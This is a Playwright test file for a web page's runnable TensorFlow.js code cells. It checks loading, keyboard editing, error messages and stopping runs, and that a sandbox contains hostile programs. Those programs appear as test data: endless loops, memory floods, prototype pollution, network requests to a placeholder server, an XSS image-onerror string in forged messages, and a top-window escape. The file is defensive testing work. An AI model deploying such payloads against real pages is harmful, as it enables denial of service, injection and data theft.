/** Code cells: changed and run by keyboard, kept and reset; and programs that mean harm. */
import { createServer, type AddressInfo } from 'node:net';
import { expect as quickExpect, type Page } from '@playwright/test';
import { axeFaults } from '../support/axe.ts';
import { test } from '../support/live-page.ts';

/** Patient: on a busy machine the editor and TensorFlow.js take a while to arrive. */
const expect = quickExpect.configure({ timeout: 30_000 });

const code = (page: Page) => page.getByRole('textbox', { name: 'Code', exact: true }).first();
const output = (page: Page) => page.getByRole('log', { name: 'Output' }).first();
const button = (page: Page, name: string) =>
	page.getByRole('button', { name, exact: true }).first();

async function open(page: Page): Promise<void> {
	await page.goto('./gallery/code-view/', { waitUntil: 'networkidle' });
	await page.locator('#example').getByText('Show the code').click();
	await expect(code(page)).toBeVisible();
}

async function run(page: Page, program: string): Promise<void> {
	await code(page).fill(program);
	await page.keyboard.press('Shift+Enter');
}

test('nothing of the editor or the kernel is fetched before a cell is opened, and run', async ({
	page
}) => {
	const texts: string[] = [];
	const addresses: string[] = [];
	page.on('response', (response) => {
		addresses.push(new URL(response.url()).pathname);
		if (response.url().endsWith('.js')) {
			response.text().then(
				(text) => texts.push(text),
				() => undefined
			);
		}
	});
	const has = (word: string) => texts.some((text) => text.includes(word));
	await page.goto('./gallery/code-view/', { waitUntil: 'networkidle' });
	expect(texts.length).toBeGreaterThan(3);
	expect(has('cm-scroller')).toBe(false);
	await page.locator('#example').getByText('Show the code').click();
	await expect(code(page)).toBeVisible();
	await expect.poll(() => has('cm-scroller')).toBe(true);
	expect(has('code-before-the-cell')).toBe(false);
	expect(addresses.some((path) => path.endsWith('/runner.html'))).toBe(false);
	await button(page, 'Run').click();
	await expect(output(page)).toContainText('difference =');
	await expect.poll(() => has('code-before-the-cell')).toBe(true);
	expect(addresses.some((path) => path.endsWith('/runner.html'))).toBe(true);
	await expect(page.locator('iframe')).toHaveCount(0);
});

test('a cell is left, changed and run by keyboard, and its changes stay', async ({ page }) => {
	await open(page);
	await code(page).focus();
	await page.keyboard.press('Tab');
	await expect(button(page, 'Run')).toBeFocused();
	await page.keyboard.press('Shift+Tab');
	await expect(code(page)).toBeFocused();
	await page.keyboard.press('Enter');
	await page.keyboard.press('ControlOrMeta+a');
	await page.keyboard.type('const half = picture.div(2);');
	await page.keyboard.press('Enter');
	await page.keyboard.press('Tab');
	await expect(code(page)).toBeFocused();
	await page.keyboard.press('Shift+Enter');
	await expect(output(page).getByRole('grid', { name: 'half, channel 2' })).toBeVisible();
	await expect(output(page)).toContainText('half [1, 2, 5, 5]');
	expect(await axeFaults(page, '#example')).toEqual([]);
	await expect(page.getByText('edited', { exact: true })).toBeVisible();
	await page.keyboard.type('1');
	await expect(output(page)).toContainText('The code was changed since this run.');
	await page.keyboard.press('Escape');
	await page.keyboard.press('Tab');
	await expect(button(page, 'Run')).toBeFocused();

	await page.reload({ waitUntil: 'networkidle' });
	await page.locator('#example').getByText('Show the code').click();
	await expect(code(page)).toContainText('picture.div(2)');
	await button(page, 'Reset').click();
	await expect(code(page)).toContainText('const fuse =');
	await expect(page.getByText('edited', { exact: true })).toHaveCount(0);
	await button(page, 'Undo reset').click();
	await expect(code(page)).toContainText('picture.div(2)');
});

test('an error is said in plain words at its line, and names are completed', async ({ page }) => {
	await open(page);
	await run(page, 'const a = tf.ones([2, 3]);\nconst b = a.add(tf.ones([4, 4]));');
	await expect(output(page)).toContainText('Line 2');
	await expect(output(page)).toContainText('The shapes [2, 3] and [4, 4] do not fit together.');
	await run(page, 'const a = 1;\n\nconst b = (1;');
	await expect(output(page)).toContainText('Line 3');
	// What fails later is said as well, and what is too large to be drawn is not drawn.
	await run(
		page,
		'const f = async () => {\n  missing();\n};\nf();\nconst maps = tf.ones([2, 99, 99]);'
	);
	await expect(output(page)).toContainText(/Line 2\s*Nothing is called “missing” here/);
	await expect(output(page)).toContainText('Too large to be drawn here.');
	await code(page).fill('');
	await code(page).pressSequentially('depthw');
	const option = page.getByRole('option', { name: /depthwise/ });
	await expect(option).toBeVisible();
	await expect(page.getByText('each map has its own kernel')).toBeVisible();
	// A list that has just appeared takes no key, lest it takes one that was meant for the code.
	await page.waitForTimeout(200);
	await page.keyboard.press('Enter');
	await expect(code(page)).toHaveText('depthwise');
});

test('Stop ends a run', async ({ page }) => {
	await page.route('**/runner.html', async (route) => {
		await new Promise((resolve) => setTimeout(resolve, 1500));
		await route.continue();
	});
	await open(page);
	await button(page, 'Run').click();
	await button(page, 'Stop').click();
	await expect(output(page)).toContainText('Stopped by you.');
	await expect(page.locator('iframe')).toHaveCount(0);
});

const nothingRan = 'Stopped: the code ran for more than 1 second';
const tooMuch = 'Stopped: the code says more than fits here';

/** What each program must lead to in the output. */
const hostile: readonly (readonly [string, string, string | RegExp])[] = [
	['an endless loop', 'while (true);', nothingRan],
	[
		'a huge allocation',
		'const all = [];\nfor (;;) all.push(new Float32Array(8e8).fill(1));',
		/Stopped: the code ran|larger than the memory/
	],
	['recursion', 'const f = () => f();\nf();', 'A function calls itself and never ends.'],
	[
		'a changed prototype',
		"Object.prototype.hacked = 1;\nArray.prototype.map = () => 'x';\nprint('changed', ({}).hacked);",
		/changed 1|is not a function/
	],
	[
		'requests',
		`const tried = [];
const attempt = (name, act) => { try { act(); tried.push(name); } catch (e) { tried.push('no ' + name); } };
attempt('importScripts', () => importScripts('http://SERVER/a.js'));
attempt('XMLHttpRequest', () => { const r = new XMLHttpRequest(); r.open('GET', 'http://SERVER/', false); r.send(); });
attempt('storage', () => localStorage.length);
attempt('database', () => indexedDB.open('a').addEventListener('success', () => print('database opened')));
attempt('socket', () => { new WebSocket('ws://SERVER/'); });
fetch('http://SERVER/').then(() => print('fetched'), () => {});
print(tried.join(', '));`,
		'no importScripts, no XMLHttpRequest, no storage'
	],
	['a flood', 'for (let i = 0; i < 1e6; i++) self.postMessage(String(i));', tooMuch],
	['100 MB', "print('start');\nself.postMessage('a'.repeat(1e8));", tooMuch],
	['an object of 100 MB', 'self.postMessage(new Float32Array(25e6));', tooMuch],
	[
		'forged messages',
		`for (let i = 0; i < 20; i++) {
  self.postMessage(JSON.stringify({ id: 'run-1', text: '{"kind":"text","text":"FORGED"}' }));
  self.postMessage('{"kind":"text","text":"<img src=x onerror=window.hacked=1>"}');
  self.postMessage('{"kind":"text","text":"FORGED","__proto__":{"hacked":1},"extra":1}');
}
self.postMessage('{"kind":"ready","names":[]}');
while (true);`,
		nothingRan
	],
	[
		'a proxy',
		"show(new Proxy({}, { get() { throw new Error('touched'); }, ownKeys() { throw new Error('touched'); } }));",
		'touched'
	],
	['a way out', "top.location = 'http://SERVER/';", 'Nothing is called “top” here.'],
	[
		'another worker',
		"const blob = new Blob(['while (true);']);\nnew Worker(URL.createObjectURL(blob));\nprint('started');",
		'started'
	]
];

test('programs that mean harm leave the page alive, and the next run works', async ({ page }) => {
	test.setTimeout(180_000);
	// What is blocked is announced as a request, too: only a server knows whether anything has left.
	let visits = 0;
	const server = createServer((socket) => {
		visits += 1;
		socket.destroy();
	});
	await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
	const host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
	await open(page);
	const address = page.url();
	await page.evaluate(() => {
		const counter = document.documentElement;
		counter.dataset.ticks = '0';
		setInterval(() => (counter.dataset.ticks = String(Number(counter.dataset.ticks ?? 0) + 1)), 20);
	});
	const ticks = () => page.evaluate(() => Number(document.documentElement.dataset.ticks));
	for (const [name, program, outcome] of hostile) {
		await test.step(name, async () => {
			const before = await ticks();
			await run(page, program.replaceAll('SERVER', host));
			await expect(output(page), name).toContainText(outcome);
			await expect(button(page, 'Run'), name).toBeEnabled();
			await expect(page.locator('iframe'), name).toHaveCount(0);
			expect(await ticks(), name).toBeGreaterThan(before);
			await expect(output(page), name).not.toContainText('FORGED');
		});
	}
	expect(await page.evaluate(() => 'hacked' in {} || 'hacked' in window)).toBe(false);
	expect(await page.evaluate(() => document.querySelectorAll('[role=log] img').length)).toBe(0);
	expect(page.url()).toBe(address);
	server.close();
	expect(visits).toBe(0);
	await run(page, "print('still', tf.scalar(2).add(1).dataSync()[0]);");
	await expect(output(page)).toContainText('still 3');
});

test('what other windows say is not heard', async ({ page }) => {
	await open(page);
	await page.evaluate(() => {
		setInterval(() => {
			for (let run = 1; run < 4; run++) {
				window.postMessage({ id: `run-${run}`, text: '{"kind":"text","text":"FORGED"}' }, '*');
			}
		}, 10);
	});
	await run(page, "print('mine');");
	await expect(output(page)).toContainText('mine');
	await expect(output(page)).not.toContainText('FORGED');
});
